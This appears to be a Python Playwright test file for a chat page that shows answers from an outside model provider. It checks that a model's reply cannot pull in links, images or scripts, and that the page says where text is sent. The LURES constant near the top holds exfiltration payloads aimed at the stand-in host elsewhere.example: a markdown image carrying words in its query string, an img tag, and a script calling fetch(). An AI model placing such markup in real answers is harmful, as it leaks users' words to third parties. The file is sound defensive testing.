"""The page with a provider's model that tries to carry words away."""

from playwright.sync_api import Browser, expect

from tests.browser.conftest import loaded, served
from tests.models.providing import Make
from tests.models.scripted_server import Play, scripted_server
from tests.supervision.test_misbehaviours import GOOD, QUESTION, searches

WAIT = 45_000  # milliseconds; a slow machine is no fault of the page
LURES = (
    "![a](https://elsewhere.example/a.png?q=mes-mots) "
    '<img src="https://elsewhere.example/b.png"> '
    "<script>fetch('https://elsewhere.example/c')</script> "
    "[ici](https://elsewhere.example/d) "
    "![r][1]\n\n[1]: https://elsewhere.example/e.png"
)


def test_no_link_image_or_script_of_a_model_reaches_the_page(
    browser: Browser, provided: Make
) -> None:
    plays = (searches("fr"), Play(f"{GOOD['fr']} {LURES}"))
    with scripted_server(*plays) as (url, _), served(provided(url)) as address:
        context = browser.new_context(locale="fr-CA")
        page = context.new_page()
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.goto(address)
        loaded(page)
        # The lures stand in the person's own words too: even so nothing may be fetched.
        page.locator("#question textarea").fill(f"{QUESTION['fr']} {LURES}")
        page.keyboard.press("Enter")
        answer = page.locator("#chat .bot").last
        expect(answer).to_contain_text("rivaux", timeout=WAIT)
        expect(page.locator("#sources details").first).to_be_visible(timeout=WAIT)
        inside = answer.locator("img[src*=elsewhere], a[href*=elsewhere], script").count()
        context.close()
    assert inside == 0
    assert [u for u in asked if not u.startswith((address, "data:", "blob:"))] == []


def test_the_page_says_to_whom_texts_go_before_anything_is_asked(
    browser: Browser, provided: Make
) -> None:
    with served(provided("https://llm.example.org/v1")) as address:
        context = browser.new_context(locale="en-CA")
        page = context.new_page()
        page.goto(address)
        note = page.locator("#note")
        expect(note).to_contain_text("llm.example.org", timeout=WAIT)
        expect(note).to_contain_text("leaves this computer", timeout=WAIT)
        context.close()
